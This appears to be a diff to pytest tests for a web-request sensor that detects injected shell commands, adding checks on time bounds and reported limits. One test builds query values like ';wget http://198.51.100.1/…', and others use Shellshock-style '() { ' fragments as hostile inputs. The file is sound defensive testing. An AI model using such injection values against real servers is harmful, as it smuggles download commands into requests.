@@ -4,6 +4,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
 from mead.sensors.web.inject import injected_commands
@@ -56,14 +58,45 @@ def request(head: bytes, body: bytes = b"") -> HttpRequest:
 @pytest.mark.parametrize("name", FOUND)
 def test_a_command_is_found_where_the_exploit_puts_it(name: str) -> None:
     head, body, command = FOUND[name]
-    assert injected_commands(request(head, body))[:1] == [command]
+    assert injected_commands(request(head, body))[0][:1] == [command]
 
 
 @pytest.mark.parametrize("head", ORDINARY)
 def test_an_ordinary_request_has_none(head: bytes) -> None:
-    assert injected_commands(request(head)) == []
+    assert injected_commands(request(head)) == ([], [])
 
 
 def test_many_places_are_bounded() -> None:
     query = b"&".join(b"p%d=;wget%%20http://198.51.100.1/%d" % (n, n) for n in range(500))
-    assert len(injected_commands(request(b"GET /?" + query + b" HTTP/1.1\r\nHost: x\r\n"))) == 8
+    commands, limits = injected_commands(request(b"GET /?" + query + b" HTTP/1.1\r\nHost: x\r\n"))
+    assert len(commands) == 8
+    assert [limit.name for limit in limits] == ["injected_commands"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"a=x" + b"\n" * 60_000 + b"x",
+        b"a=" + b"; " * 30_000 + b"x",
+        b"a=" + b"() { " * 12_000,
+        b"a=" + b"`a" * 30_000,
+        b"a=" + b"w " * 30_000,
+        b"a=" + b"$(" * 30_000,
+        b"[" * 60_000,
+        b"<a>" + b">x" * 60_000,
+    ],
+    ids=lambda body: repr(body[2:8]),
+)
+def test_a_hostile_body_costs_time_in_proportion(body: bytes) -> None:
+    began = time.process_time()
+    injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", body))
+    assert time.process_time() - began < 1
+
+
+def test_only_so_much_is_looked_at_and_that_is_said() -> None:
+    many = b"&".join(b"a%d=b" % number for number in range(300))
+    _, limits = injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", many))
+    assert [limit.name for limit in limits] == ["injection_places"]
+    long = b"&".join(b"a=" + b"x" * 60_000 for _ in range(40))
+    _, limits = injected_commands(request(b"POST / HTTP/1.1\r\nHost: x\r\n", long))
+    assert [limit.name for limit in limits] == ["injection_text"]
